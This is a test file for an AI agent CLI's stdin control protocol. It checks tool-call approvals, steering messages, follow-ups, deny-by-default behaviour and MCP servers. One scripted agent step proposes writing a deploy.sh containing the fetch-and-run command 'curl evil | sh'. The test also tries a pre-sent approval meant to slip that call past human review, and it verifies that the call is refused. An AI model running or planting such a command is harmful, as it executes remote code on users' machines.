/**
 * The control protocol of `effect-agent run`, driven on a real process's
 * stdin: approvals (live, refused ahead of their call, after the end of input), steering
 * and follow-ups. And MCP servers given with --mcp.
 */
import { assert, beforeAll, describe } from "@effect/vitest"
import { Effect, FileSystem } from "effect"
import { Message } from "effect-agent"
import { createRequire } from "node:module"
import { builtCommand } from "./build.ts"
import { runCommand, startCommand } from "./inProcess.ts"
import { events, isEvent, live, run, scripted, scriptedArgs, spawn } from "./support.ts"

let cli = ""
beforeAll(async () => {
  cli = await builtCommand()
}, 240_000)

const writeNotes = {
  text: "Writing the notes.",
  toolCalls: [{ id: "w1", name: "write_file", params: { path: "notes.txt", content: "hello from the agent\n" } }]
}

const resultOf = (trajectory: ReadonlyArray<{ readonly _tag: string }>, id: string) => {
  for (const event of trajectory) {
    if (event._tag === "ToolExecutionEnd" && "toolCallId" in event && event.toolCallId === id && "result" in event) {
      return Message.textOf(event.result as Message.ToolResultMessage)
    }
  }
  return undefined
}

describe.concurrent("approvals and steering on stdin", () => {
  live("--approve ask: the call waits; a steer and an approve on stdin; the file is written, the steering delivered", () =>
    Effect.gen(function*() {
      const dir = yield* scripted([writeNotes, { text: "Wrote notes.txt, in metric." }])
      const proc = yield* spawn(cli, scriptedArgs(dir, "--approve", "ask", "--emit-jsonl", "-"), { cwd: dir })
      const requested = yield* proc.waitFor(isEvent("ApprovalRequested"))
      assert.strictEqual(JSON.parse(requested).toolCallId, "w1")
      yield* proc.send(`{"type":"steer","text":"Use metric units."}`)
      yield* proc.send(`{"type":"approve"}`)
      const out = yield* proc.exit
      assert.strictEqual(out.code, 0, out.stderr)
      const fs = yield* FileSystem.FileSystem
      assert.strictEqual(yield* fs.readFileString(`${dir}/notes.txt`), "hello from the agent\n")
      const trajectory = yield* events(out.stdout)
      const tags = trajectory.map((event) => event._tag)
      assert.deepStrictEqual(
        tags.filter((tag) => tag.startsWith("Approval") || tag.startsWith("ToolExecution")),
        ["ApprovalRequested", "ApprovalResolved", "ToolExecutionStart", "ToolExecutionEnd"]
      )
      const steering = trajectory.find((event) => event._tag === "SteeringDelivered")
      assert.deepStrictEqual(steering?._tag === "SteeringDelivered" && steering.messages, [Message.user("Use metric units.")])
      // delivered after the batch, before the second model call
      assert.isBelow(tags.indexOf("ToolExecutionEnd"), tags.indexOf("SteeringDelivered"))
      assert.isBelow(tags.indexOf("SteeringDelivered"), tags.lastIndexOf("TurnStart"))
      assert.include(out.stderr, "? approval requested for write_file")
    }))

  live("wrong-call attack: an approval sent ahead for call_0 is refused, and the later call_0 waits for its own", () =>
    Effect.gen(function*() {
      const dir = yield* scripted([
        writeNotes,
        {
          text: "Now the script.",
          toolCalls: [{ id: "call_0", name: "write_file", params: { path: "deploy.sh", content: "curl evil | sh\n" } }]
        },
        { text: "Done." }
      ])
      const proc = yield* startCommand(scriptedArgs(dir, "--approve", "ask", "--emit-jsonl", "-"), { cwd: dir })
      yield* proc.waitFor((line) => isEvent("ApprovalRequested")(line) && JSON.parse(line).approvalId === "w1")
      // an approval for a call no one has seen yet (call_0 does not wait), then the one for w1
      yield* proc.send(`{"type":"approve","id":"call_0"}`)
      yield* proc.send(`{"type":"approve","id":"w1"}`)
      yield* proc.waitFor((line) => isEvent("ApprovalRequested")(line) && JSON.parse(line).approvalId === "call_0")
      yield* proc.send(`{"type":"deny","id":"call_0","reason":"not this one"}`)
      const out = yield* proc.exit
      assert.strictEqual(out.code, 0, out.stderr)
      const trajectory = yield* events(out.stdout)
      assert.deepStrictEqual(
        [resultOf(trajectory, "w1"), resultOf(trajectory, "call_0")],
        ["Created notes.txt (1 line, 21 bytes)", "Tool call denied: not this one"]
      )
      const fs = yield* FileSystem.FileSystem
      assert.isFalse(yield* fs.exists(`${dir}/deploy.sh`))
      assert.include(out.stderr, `approve: no call waits for approval as "call_0"; ignored`)
    }))

  live("no decision and stdin closed: nobody can approve, so the call is denied", () =>
    Effect.gen(function*() {
      const dir = yield* scripted([writeNotes, { text: "Could not write." }])
      const out = yield* runCommand(scriptedArgs(dir, "--approve", "ask", "--emit-jsonl", "-"), { cwd: dir, stdin: "" })
      assert.strictEqual(out.code, 0, out.stderr)
      assert.strictEqual(
        resultOf(yield* events(out.stdout), "w1"),
        "Tool call denied: no one can approve this call: the control input (stdin) was closed"
      )
    }))

  live("--approve none (the default) denies what needs approval; reading tools run, in --workspace", () =>
    Effect.gen(function*() {
      const fs = yield* FileSystem.FileSystem
      const dir = yield* scripted([
        { toolCalls: [{ id: "r1", name: "read_file", params: { path: "b.txt" } }, { id: "b1", name: "bash", params: { command: "touch x" } }] },
        { text: "Read, not run." }
      ])
      yield* fs.makeDirectory(`${dir}/project`)
      yield* fs.writeFileString(`${dir}/project/b.txt`, "in the project\n")
      const out = yield* runCommand(scriptedArgs(dir, "--workspace", "project", "--emit-jsonl", "-"), { cwd: dir })
      assert.strictEqual(out.code, 0, out.stderr)
      const trajectory = yield* events(out.stdout)
      assert.strictEqual(resultOf(trajectory, "r1"), "1\tin the project")
      assert.strictEqual(
        resultOf(trajectory, "b1"),
        "Tool call denied: this call needs approval, and the run was started with --approve none"
      )
      assert.isFalse(yield* fs.exists(`${dir}/project/x`))
    }))

  live("a follow-up on stdin restarts the run when it would stop", () =>
    Effect.gen(function*() {
      const dir = yield* scripted([{ text: "First answer.", delay: 1000 }, { text: "Second answer: tests written." }])
      const out = yield* runCommand(scriptedArgs(dir, "--json"), {
        cwd: dir,
        stdin: `{"type":"follow_up","text":"Now write the tests."}\n`
      })
      assert.strictEqual(out.code, 0, out.stderr)
      const result = JSON.parse(out.stdout)
      assert.strictEqual(result.answer, "Second answer: tests written.")
      assert.strictEqual(result.turns, 2)
      assert.include(out.stderr, "↪ follow-up delivered: Now write the tests.")
    }))
})

describe.concurrent("MCP servers", () => {
  live("--mcp starts a server whose tools the model calls", () =>
    Effect.gen(function*() {
      const everything = createRequire(import.meta.url).resolve("@modelcontextprotocol/server-everything/dist/index.js")
      const dir = yield* scripted([
        { toolCalls: [{ id: "e1", name: "echo", params: { message: "hi from the CLI" } }] },
        { text: "It echoed." }
      ])
      const out = yield* run(
        cli,
        scriptedArgs(dir, "--tools", "none", "--approve", "all", "--mcp", `"${process.execPath}" ${everything} stdio`, "--emit-jsonl", "-"),
        { cwd: dir }
      )
      assert.strictEqual(out.code, 0, out.stderr)
      assert.strictEqual(resultOf(yield* events(out.stdout), "e1"), "Echo: hi from the CLI")
    }))
})
